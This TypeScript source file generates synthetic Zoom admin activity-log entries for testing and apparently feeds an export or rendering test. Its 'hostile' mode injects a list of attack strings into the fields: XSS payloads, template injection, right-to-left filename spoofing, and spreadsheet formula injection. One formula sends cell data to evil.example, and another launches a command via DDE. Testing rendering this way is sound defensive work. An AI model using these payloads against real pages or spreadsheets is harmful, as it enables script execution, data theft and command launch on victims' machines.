/**
 * Deterministic generator of Zoom operation-log entries (Admin Activity Logs).
 * Same (seed, count, now, hostile) -> same entries, newest first.
 * Details follow the shapes of real entries (see the notes' "What real entries look like"): two spaces before
 * the first ` - `, changes chained with ` - `, `from X to Y` or `set to X` (X possibly empty), trailing spaces
 * (`Activate User x@y `), embedded JSON arrays (`userId`, `assistant`, `options`), actions beyond the common four
 * (`SCIM API - Update`, `Batch Update`), categories outside the query enum (`User Group`, `Channels`) and
 * operators that are not e-mails (`System`, `SCIM`, `api-app (Server-to-Server)`).
 */
import { isoSeconds, sixMonthsHorizon } from './dates';

export interface SimEntry {
  time: string;
  operator: string;
  category_type: string;
  action: string;
  operation_detail: string;
}

/** Query enum (`category_type` parameter) -> display string found in entries. */
export const CATEGORY_DISPLAY: Record<string, string> = {
  user: 'User',
  user_settings: 'User Settings',
  account: 'Account',
  billing: 'Billing',
  im: 'IM',
  recording: 'Recording',
  phone_contacts: 'Phone Contacts',
  webinar: 'Webinar',
  sub_account: 'Sub Account',
  role: 'Role',
  zoom_rooms: 'Zoom Rooms',
};

/** Display strings the generator uses for ~1% of entries; they match no query enum (only `all`). */
export const UNKNOWN_DISPLAY_CATEGORIES = ['Meeting Settings', 'Security', 'Team Chat Channel'];

/** About 1 MB; present at most once in a hostile data set. */
export const HUGE_STRING: string = (() => {
  const unit = 'Lorem <b>ipsum</b> "dolor", sit\namet; ';
  return 'HUGE:' + unit.repeat(Math.ceil((1024 * 1024) / unit.length));
})();

/** Strings that must be rendered/exported as inert text. */
export const HOSTILE_STRINGS: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</script>',
  'javascript:alert(1)',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '<!--',
  'admin\u202Egnp.exe', // right-to-left override
  '\u2066isolate\u2069 text', // left-to-right isolate
  'zero\u200Bwidth\u200Cjoin\u200Dchars\uFEFF',
  'emoji 😀👩‍👩‍👧‍👦 🇺🇸 flags',
  'Z̶̢a̷͉l̸̨g̵͖o̴̡ combining marks',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  'He said "hi", then \'bye\',\nand left;\r\nnew "line", comma',
  '',
  ' ',
  'null',
  'undefined',
  '__proto__',
  '\\u0000 \\ backslashes \\\\',
  'tab\tand\u0000nul',
  HUGE_STRING,
];

/** mulberry32: small, fast, seedable PRNG returning floats in [0, 1). */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Rng = () => number;
const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)];
const int = (rng: Rng, lo: number, hi: number): number => lo + Math.floor(rng() * (hi - lo + 1));

const FIRST = [
  'jane',
  'john',
  'maria',
  'wei',
  'aisha',
  'lukas',
  'sofia',
  'raj',
  'emma',
  'omar',
  'yuki',
  'carlos',
  'nina',
  'ben',
  'fatima',
  'li',
  'olga',
  'sam',
  'priya',
  'tom',
];
const LAST = [
  'doe',
  'smith',
  'garcia',
  'chen',
  'khan',
  'muller',
  'rossi',
  'patel',
  'brown',
  'haddad',
  'tanaka',
  'lopez',
  'ivanova',
  'okafor',
  'nguyen',
  'kim',
  'silva',
  'jones',
];
const ADMIN_DOMAINS = ['example.com', 'corp.example.org', 'it.example.net'];
const USER_DOMAINS = ['example.com', 'corp.example.org', 'it.example.net', 'contractors.example.com'];

function cap(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

/** ~30 admin operators on three domains (fixed, independent of the seed). */
export const OPERATORS: string[] = (() => {
  const r = mulberry32(0xad_01);
  const out = new Set<string>();
  while (out.size < 30) {
    const f = pick(r, FIRST);
    const l = pick(r, LAST);
    const style = out.size % 3;
    const local = style === 0 ? `${f}.${l}` : style === 1 ? `${f[0]}${l}` : `${f}.${l}.admin`;
    out.add(`${local}@${ADMIN_DOMAINS[out.size % ADMIN_DOMAINS.length]}`);
  }
  return [...out];
})();

function userEmail(rng: Rng): string {
  const f = pick(rng, FIRST);
  const l = pick(rng, LAST);
  const n = rng() < 0.2 ? String(int(rng, 1, 99)) : '';
  return `${f}.${l}${n}@${pick(rng, USER_DOMAINS)}`;
}
function fullName(rng: Rng): string {
  return `${cap(pick(rng, FIRST))} ${cap(pick(rng, LAST))}`;
}
function meetingId(rng: Rng): string {
  return `${int(rng, 810, 899)}${int(rng, 1000, 9999)}${int(rng, 1000, 9999)}`;
}
/** Two different items of xs (xs.length >= 2). */
function two(rng: Rng, xs: readonly string[]): [string, string] {
  const a = int(rng, 0, xs.length - 1);
  const b = (a + int(rng, 1, xs.length - 1)) % xs.length;
  return [xs[a], xs[b]];
}
const onOff = (rng: Rng): [string, string] => (rng() < 0.5 ? ['On', 'Off'] : ['Off', 'On']);

/**
 * Operators that are not e-mail addresses, as real logs show for automated changes. About 3% of generated
 * entries have `System` or `api-app (Server-to-Server)`; half of the `SCIM API - Update` entries have `SCIM`.
 */
export const NON_EMAIL_OPERATORS = ['System', 'SCIM', 'api-app (Server-to-Server)'];
/** The non-e-mail operators of ordinary (non-SCIM) changes. */
const AUTOMATION_OPERATORS = ['System', 'api-app (Server-to-Server)'];

/** Display categories found in real entries that match no `category_type` query value (only `all` returns them). */
export const EXTRA_DISPLAY_CATEGORIES = ['User Group', 'Channels'];

const USER_SETTINGS = [
  'Cloud recording',
  'Join before host',
  'Waiting room',
  'Screen sharing',
  'Require a passcode when scheduling new meetings',
  'Local recording',
  'Breakout room',
  'Allow livestreaming of meetings',
];
const ACCOUNT_SECTIONS: [string, string[]][] = [
  [
    'Security',
    [
      'Only authenticated users can join meetings',
      'Waiting Room',
      'Embed passcode in invite link for one-click join',
      'Require passcode for participants joining by phone',
    ],
  ],
  ['Meeting', ['Join before host', 'Allow users to change their name', 'Whiteboard', 'Meeting reactions']],
  ['Recording', ['Cloud recording', 'Automatic recording', 'Allow cloud recording sharing']],
  ['Data Center Regions', ['Hong Kong', 'Europe', 'Latin America']],
];
const DEPARTMENTS = ['Engineering', 'Sales', 'Marketing', 'Finance', 'HR', 'Legal', 'Support', 'Operations'];
const TITLES = ['Contractor', 'Engineer', 'Senior Engineer', 'Manager', 'Intern', ''];
const ROOMS = [
  'HQ-3F Boardroom',
  'HQ-2F Huddle 1',
  'Berlin Focus Room',
  'Tokyo Large Conf',
  'NYC Town Hall',
  'London Studio',
];
const ROLES = ['Admin', 'Helpdesk', 'Billing Admin', 'Auditor', 'Room Manager'];
const USER_ROLES = ['User', 'Member', 'Admin', 'Helpdesk', 'Auditor'];
const TOPICS = [
  'Weekly Sync',
  'Quarterly All-Hands',
  'Customer Onboarding',
  'Board Meeting',
  'Sprint Review',
  'Training: Security 101',
];
const GROUPS = ['Sales', 'Engineers', 'Recruiting', 'Support EMEA', 'Contractors'];
const CHANNELS = ['Ops', 'General', 'Incidents', 'Sales Leads', 'Random'];
const SUB_ACCOUNTS = ['Acme EMEA', 'Acme APAC', 'Acme LATAM', 'Acme Test'];

/** A generated detail, optionally with the operator that real logs show for it (otherwise an admin e-mail). */
type Detail = string | { detail: string; operator: string };

interface Template {
  weight: number;
  actions: [string, number, (rng: Rng) => Detail][];
}

const userId = (r: Rng): string => {
  let s = '';
  for (let i = 0; i < 22; i++) s += 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'[int(r, 0, 63)];
  return s;
};
const jsonList = (r: Rng, n: number, item: (r: Rng) => string): string =>
  JSON.stringify(Array.from({ length: n }, () => item(r)));

const TEMPLATES: Record<string, Template> = {
  User: {
    weight: 34,
    actions: [
      [
        'Add',
        3,
        (r) =>
          `Add User ${userEmail(r)}  - User Type: ${pick(r, ['Basic', 'Licensed'])} - Department: ${pick(r, DEPARTMENTS)}`,
      ],
      [
        'Update',
        7,
        (r) => {
          const email = userEmail(r);
          switch (int(r, 0, 6)) {
            case 0: {
              const [f, l] = [cap(pick(r, FIRST)), cap(pick(r, LAST))];
              return `Update User ${email}  - Display Name: from ${f} ${l} to ${f} ${l[0]}.`;
            }
            case 1: {
              const [a, b] = two(r, DEPARTMENTS);
              return `Update User ${email}  - Department: from ${a} to ${b}`;
            }
            case 2:
              return `Update User ${email}  - User Type: from Basic to Licensed`;
            case 3:
              return `Update User ${email}  - Job Title: set to ${pick(r, TITLES)}`;
            case 4:
              return `Update User ${email}  - assistant: ${jsonList(r, int(r, 1, 3), userEmail)}`;
            case 5:
              return `${r() < 0.5 ? 'Activate' : 'Deactivate'} User ${email} `;
            default: {
              const t = pick(r, TITLES);
              const [a, b] = two(r, DEPARTMENTS);
              return `Update User ${email}  - Job Title: set to ${t} - Department: from ${a} to ${b}`;
            }
          }
        },
      ],
      ['Delete', 2, (r) => `Delete User ${userEmail(r)}`],
      ['Delete', 1, (r) => `Delete User  - userId: ${jsonList(r, int(r, 2, 4), userId)}`],
      [
        'Batch Update',
        1,
        (r) => {
          const from = pick(r, USER_ROLES);
          return `Change Role  - ${userEmail(r)}: from ${from} to ${pick(
            r,
            USER_ROLES.filter((x) => x !== from),
          )}`;
        },
      ],
      [
        'SCIM API - Update',
        1,
        (r) => {
          const [a, b] = r() < 0.7 ? ['Basic', 'Licensed'] : ['Licensed', 'Basic'];
          const d = `Edit User ${userEmail(r)}  - Change Type: from ${a} to ${b}`;
          return r() < 0.5 ? { detail: d, operator: 'SCIM' } : d;
        },
      ],
    ],
  },
  'User Settings': {
    weight: 12,
    actions: [
      [
        'Update',
        5,
        (r) => {
          const [a, b] = onOff(r);
          return `Update User Settings ${userEmail(r)}  - ${pick(r, USER_SETTINGS)}: from ${a} to ${b}`;
        },
      ],
      [
        'Batch Update',
        1,
        (r) => {
          const [a, b] = onOff(r);
          return `Batch Update User Settings  - ${pick(r, USER_SETTINGS)}: from ${a} to ${b} - userId: ${jsonList(r, int(r, 2, 5), userId)}`;
        },
      ],
    ],
  },
  Account: {
    weight: 11,
    actions: [
      [
        'Update',
        6,
        (r) => {
          const [section, settings] = pick(r, ACCOUNT_SECTIONS);
          if (section === 'Data Center Regions') return `${section}  - ${pick(r, settings)}: from On to Off`;
          const [a, b] = onOff(r);
          const first = `${section}  - ${pick(r, settings)}: from ${a} to ${b}`;
          if (r() < 0.2) {
            const [c, d] = onOff(r);
            return `${first} - ${pick(r, settings)}: from ${c} to ${d}`;
          }
          return first;
        },
      ],
      [
        'Update',
        1,
        (r) =>
          `Meeting  - Polls/Quizzes - options: ${JSON.stringify(['Allow alternative hosts to add or edit polls and quizzes', 'Require answers to be anonymous'].slice(0, int(r, 1, 2)))}`,
      ],
      [
        'Add',
        1,
        (r) => `Add Associated Domain ${pick(r, ['example.io', 'example.co.uk', 'example.de', 'acme.example'])}`,
      ],
      ['Delete', 1, (r) => `Delete Associated Domain ${pick(r, ['old.example.com', 'legacy.example.org'])}`],
    ],
  },
  Billing: {
    weight: 3,
    actions: [
      [
        'Update',
        3,
        (r) => {
          const n = int(r, 10, 400);
          return `Update Plan  - Licenses: from ${n} to ${n + int(r, 1, 50)}`;
        },
      ],
      ['Add', 1, () => 'Add Plan  - Zoom Webinar 500: set to 1'],
      ['Update', 1, (r) => `Update Billing Contact  - Email: from ${userEmail(r)} to ${userEmail(r)}`],
    ],
  },
  IM: {
    weight: 5,
    actions: [
      ['Add', 2, (r) => `Add IM Group ${pick(r, DEPARTMENTS)}  - Members: ${int(r, 2, 80)}`],
      [
        'Update',
        2,
        (r) => {
          const d = pick(r, DEPARTMENTS);
          return `Update IM Group ${d}  - Name: from ${d} to ${d} EMEA`;
        },
      ],
      ['Delete', 1, (r) => `Delete IM Group ${pick(r, DEPARTMENTS)} (old)`],
    ],
  },
  Recording: {
    weight: 8,
    actions: [
      ['Delete', 4, (r) => `Delete Recording ${pick(r, TOPICS)} (${meetingId(r)})`],
      ['Update', 1, (r) => `Recover Recording ${pick(r, TOPICS)} (${meetingId(r)})`],
      ['Update', 1, (r) => `Update Recording ${pick(r, TOPICS)} (${meetingId(r)})  - Share: from Off to On`],
    ],
  },
  'Phone Contacts': {
    weight: 3,
    actions: [
      ['Add', 2, (r) => `Add Phone Contact ${fullName(r)}  - Phone Number: set to +1 555-01${int(r, 10, 99)}`],
      ['Delete', 1, (r) => `Delete Phone Contact ${fullName(r)}`],
      ['Batch Update', 1, (r) => `Import Phone Contacts  - Count: set to ${int(r, 5, 500)}`],
    ],
  },
  Webinar: {
    weight: 5,
    actions: [
      ['Update', 3, (r) => `Update Webinar ${pick(r, TOPICS)} (${meetingId(r)})  - Registration: from Off to On`],
      ['Add', 1, (r) => `Add Webinar ${pick(r, TOPICS)} (${meetingId(r)})  - Host: ${userEmail(r)}`],
      ['Delete', 1, (r) => `Delete Webinar ${pick(r, TOPICS)} (${meetingId(r)})`],
    ],
  },
  'Sub Account': {
    weight: 2,
    actions: [
      ['Add', 1, (r) => `Add Sub Account ${pick(r, SUB_ACCOUNTS)}  - Owner: ${userEmail(r)}`],
      [
        'Update',
        2,
        (r) => {
          const n = int(r, 5, 100);
          return `Update Sub Account ${pick(r, SUB_ACCOUNTS)}  - Seats: from ${n} to ${n + 5}`;
        },
      ],
      ['Delete', 1, (r) => `Delete Sub Account ${pick(r, SUB_ACCOUNTS)}`],
    ],
  },
  Role: {
    weight: 5,
    actions: [
      ['Add', 1, (r) => `Add Role ${pick(r, ROLES)} ${int(r, 2, 9)}`],
      [
        'Update',
        3,
        (r) => {
          const [a, b] = onOff(r);
          const priv = pick(r, ['Users: View', 'Users: Edit', 'Recordings: Edit', 'Reports: View']);
          return `Update Role ${pick(r, ROLES)}  - ${priv}: from ${a} to ${b}`;
        },
      ],
      ['Update', 2, (r) => `Update Role ${pick(r, ROLES)}  - Add Members: ${userEmail(r)}`],
      ['Delete', 1, (r) => `Delete Role ${pick(r, ROLES)} (old)`],
    ],
  },
  'Zoom Rooms': {
    weight: 9,
    actions: [
      [
        'Update',
        4,
        (r) => {
          const room = pick(r, ROOMS);
          const field = pick(r, ['Location', 'Display Name', 'Calendar']);
          const [a, b] = two(r, ROOMS);
          return `Update Zoom Room ${room}  - ${field}: from ${a} to ${b}`;
        },
      ],
      ['Add', 1, (r) => `Add Zoom Room ${pick(r, ROOMS)} ${int(r, 2, 9)}`],
      ['Delete', 1, (r) => `Delete Zoom Room ${pick(r, ROOMS)}`],
    ],
  },
  'User Group': {
    weight: 3,
    actions: [
      [
        'Update',
        3,
        (r) => {
          const [a, b] = onOff(r);
          return `Edit Group ${pick(r, GROUPS)}  - ${pick(r, ['Personal Meeting ID (PMI) Passcode', 'Cloud recording', 'Waiting Room'])}: from ${a} to ${b}`;
        },
      ],
      ['Update', 1, (r) => `Edit Group ${pick(r, GROUPS)} `],
      ['Add', 1, (r) => `Add Group ${pick(r, GROUPS)}`],
    ],
  },
  Channels: {
    weight: 2,
    actions: [
      ['Update', 2, (r) => `Assign admin for channel ${pick(r, CHANNELS)}  - ${userEmail(r)}`],
      [
        'Update',
        2,
        (r) => {
          const c = pick(r, CHANNELS);
          return `Update a Channel ${c}  - Cloud Storage Retention: set to ${pick(r, ['', '30 days', '1 year'])} - Name: from ${c} to ${c} 2`;
        },
      ],
    ],
  },
};

const UNKNOWN_TEMPLATE: Template['actions'] = [
  [
    'Update',
    1,
    (r) => {
      const [a, b] = onOff(r);
      return `Meeting Settings  - ${pick(r, ['Focus mode', 'Meeting reactions', 'Whiteboard'])}: from ${a} to ${b}`;
    },
  ],
];

/**
 * Every example line of /work/shared/notes/zoom-operation-logs-api.md, "What real entries look like", verbatim
 * (action, category_type, operation_detail; e-mails already anonymised there).
 */
export const NOTES_EXAMPLES: readonly Omit<SimEntry, 'time' | 'operator'>[] = [
  ['Update', 'Account', 'Security  - Sign in with Two-Factor Authentication: from On to Off'],
  ['Update', 'Account', 'Security  - Require that all meetings are secured with one security option: from On to Off'],
  ['Update', 'Account', 'Security  - Require a passcode when scheduling new meetings: from On to Off'],
  ['Update', 'Account', 'Security  - Automatically sign users out after a specified time: from On to Off'],
  ['Update', 'Account', 'Sign-in Methods  - Allow users to sign in with Google: from Off to On'],
  [
    'Update',
    'Account',
    'Sign-In Password Requirement  - Have at least specified length of characters: from 8 to 14 - Include at least 1 letter: from On to Off',
  ],
  ['Batch Update', 'User', 'Change Role  - jane@example.com: from User to Co-Owner'],
  ['SCIM API - Update', 'User', 'Edit User jane@example.com  - Change Type: from Basic to Licensed'],
  ['Update', 'User', 'Update User jane@example.com  - Job Title: set to Contractor'],
  ['Add', 'User', 'Add User jane@example.com  - User Type: Basic - Department: Sales'],
  ['Update', 'User', 'Activate User jane@example.com '],
  ['Update', 'User', 'Deactivate User jane@example.com '],
  ['Update', 'User Group', 'Edit Group Sales  - Personal Meeting ID (PMI) Passcode: from On to Off'],
  ['Add', 'User Group', 'Add Group Engineers'],
  ['Update', 'User Group', 'Edit Group Recruiting '],
  ['Update', 'Channels', 'Assign admin for channel Ops  - jane@example.com'],
  ['Update', 'Channels', 'Update a Channel Ops  - Cloud Storage Retention: set to  - Name: from Old to New'],
].map(([action, category_type, operation_detail]) => ({ action, category_type, operation_detail }));

/**
 * More entries of the same real shapes, for the events a rule engine flags (deletions, end-to-end encryption off,
 * privileged roles) and for the quirks (JSON arrays, non-e-mail operators). `operator` is used when given.
 */
export const EXTRA_EXAMPLES: readonly Omit<SimEntry, 'time'>[] = [
  ['', 'Delete', 'Recording', 'Delete Recording Board Meeting (83512345678)'],
  ['', 'Delete', 'Recording', 'Delete Recording Quarterly All-Hands (81987654321)'],
  ['', 'Delete', 'User', 'Delete User sam.okafor@contractors.example.com'],
  ['System', 'Delete', 'User', 'Delete User omar.haddad@example.com'],
  ['', 'Delete', 'Sub Account', 'Delete Sub Account Acme Test'],
  ['', 'Update', 'Account', 'Security  - Allow use of end-to-end encryption: from On to Off'],
  ['', 'Update', 'Role', 'Update Role Admin  - Users: Edit: from Off to On - Account Settings: Edit: from Off to On'],
  ['', 'Batch Update', 'User', 'Change Role  - raj.patel@example.com: from Member to Admin'],
  ['', 'Batch Update', 'User', 'Change Role  - li.chen@corp.example.org: from Admin to Owner'],
  ['', 'Batch Update', 'User', 'Change Role  - emma.brown@example.com: from User to Billing Admin'],
  ['SCIM', 'SCIM API - Update', 'User', 'Edit User maria.garcia@example.com  - Change Type: from Licensed to Basic'],
  [
    'api-app (Server-to-Server)',
    'Delete',
    'User',
    'Delete User  - userId: ["KdR3xPq7Tz2mWn8vY1bC4a","h9JkL2mN5pQ8rS1tU4vW7x"]',
  ],
  [
    '',
    'Update',
    'User',
    'Update User wei.chen@example.com  - assistant: ["nina.rossi@example.com","tom.kim@it.example.net"]',
  ],
  [
    '',
    'Update',
    'Account',
    'Meeting  - Polls/Quizzes - options: ["Allow alternative hosts to add or edit polls and quizzes","Require answers to be anonymous"]',
  ],
  ['System', 'Update', 'User', 'Deactivate User ben.silva@example.com '],
].map(([operator, action, category_type, operation_detail]) => ({ operator, action, category_type, operation_detail }));

const DISPLAYS = Object.keys(TEMPLATES);
const TOTAL_WEIGHT = DISPLAYS.reduce((s, k) => s + TEMPLATES[k].weight, 0);

function pickWeighted<T>(rng: Rng, items: readonly T[], weight: (t: T) => number): T {
  const total = items.reduce((s, t) => s + weight(t), 0);
  let x = rng() * total;
  for (const t of items) {
    x -= weight(t);
    if (x < 0) return t;
  }
  return items[items.length - 1];
}

function makeEntry(rng: Rng, display: string, timeMs: number): SimEntry {
  const known = TEMPLATES[display];
  const actions = known ? known.actions : UNKNOWN_TEMPLATE;
  const [action, , detail] = pickWeighted(rng, actions, (a) => a[1]);
  const admin = pick(rng, OPERATORS);
  const d = detail(rng);
  const operator = typeof d !== 'string' ? d.operator : rng() < 0.03 ? pick(rng, AUTOMATION_OPERATORS) : admin;
  return {
    time: isoSeconds(timeMs),
    operator,
    category_type: display,
    action,
    operation_detail: typeof d === 'string' ? d : d.detail,
  };
}

/** Entries at least this many: the realistic examples (NOTES_EXAMPLES, EXTRA_EXAMPLES) are part of the data. */
export const EXAMPLES_MIN_COUNT = 100;

/**
 * Generates `count` entries between the day after the six-month horizon (00:00:00Z) and `now`,
 * newest first. Every category of TEMPLATES (the eleven query categories, then `User Group` and `Channels`)
 * appears when count >= 13; ~1% use an unknown display category (UNKNOWN_DISPLAY_CATEGORIES); ~5% are
 * `User Group` / `Channels`; ~3.5% have a non-e-mail operator; ~10% share their second with a neighbour.
 * When count >= EXAMPLES_MIN_COUNT, every NOTES_EXAMPLES and EXTRA_EXAMPLES entry is present verbatim exactly
 * once, at times spread evenly over the range (they replace generated entries, so the count stays `count`).
 * `hostile`: ~5% of the other entries get a HOSTILE_STRINGS value in operator / category_type / action /
 * operation_detail (the ~1 MB string exactly once, in a detail).
 */
export function generateEntries(opts: { seed: number; count: number; now: number; hostile?: boolean }): SimEntry[] {
  const rng = mulberry32(opts.seed ^ 0x5eed_0000);
  const count = Math.max(0, Math.floor(opts.count));
  const end = Math.floor(opts.now / 1000) * 1000;
  const start = sixMonthsHorizon(opts.now) + 86_400_000;
  const span = Math.max(0, end - start);

  const entries: { e: SimEntry; ms: number; i: number }[] = [];
  let prevMs = end;
  for (let i = 0; i < count; i++) {
    let display: string;
    if (i < DISPLAYS.length && count >= DISPLAYS.length) display = DISPLAYS[i];
    else if (rng() < 0.01 || (i === DISPLAYS.length && count >= 100)) display = pick(rng, UNKNOWN_DISPLAY_CATEGORIES);
    else display = pickWeighted(rng, DISPLAYS, (d) => TEMPLATES[d].weight / TOTAL_WEIGHT);

    let ms: number;
    const burst = rng();
    if (i > 0 && burst < 0.07) {
      ms = prevMs;
    } // same second as the previous one
    else if (i > 0 && burst < 0.1) ms = Math.min(end, prevMs + int(rng, 1, 5) * 1000);
    else ms = start + Math.floor(rng() * (span + 1));
    ms = Math.floor(ms / 1000) * 1000;
    prevMs = ms;
    entries.push({ e: makeEntry(rng, display, ms), ms, i });
  }

  // The realistic examples replace the entries after the guaranteed categories, at evenly spread times.
  const examples = new Set<number>();
  if (count >= EXAMPLES_MIN_COUNT) {
    const all: Omit<SimEntry, 'time'>[] = [
      ...NOTES_EXAMPLES.map((x, k) => ({ ...x, operator: OPERATORS[k % OPERATORS.length] })),
      ...EXTRA_EXAMPLES.map((x, k) => ({ ...x, operator: x.operator || OPERATORS[(k * 7) % OPERATORS.length] })),
    ];
    all.forEach((x, k) => {
      const at = DISPLAYS.length + 1 + k;
      const ms = Math.floor((start + ((k + 0.5) / all.length) * span) / 1000) * 1000;
      entries[at] = { e: { time: isoSeconds(ms), ...x }, ms, i: at };
      examples.add(at);
    });
  }

  if (opts.hostile && count > 0) {
    const fields = ['operator', 'category_type', 'action', 'operation_detail', 'operation_detail'] as const;
    const small = HOSTILE_STRINGS.filter((s) => s !== HUGE_STRING);
    for (const x of entries) {
      if (examples.has(x.i) || rng() >= 0.05) continue;
      const field = pick(rng, fields);
      const h = pick(rng, small);
      x.e[field] = field === 'operation_detail' && rng() < 0.5 ? `Update User ${h}  - Display Name: from ${h} to x` : h;
    }
    let huge = Math.floor(rng() * entries.length);
    while (examples.has(huge)) huge = (huge + 1) % entries.length;
    entries[huge].e.operation_detail = HUGE_STRING;
  }

  entries.sort((a, b) => b.ms - a.ms || a.i - b.i);
  return entries.map((x) => x.e);
}
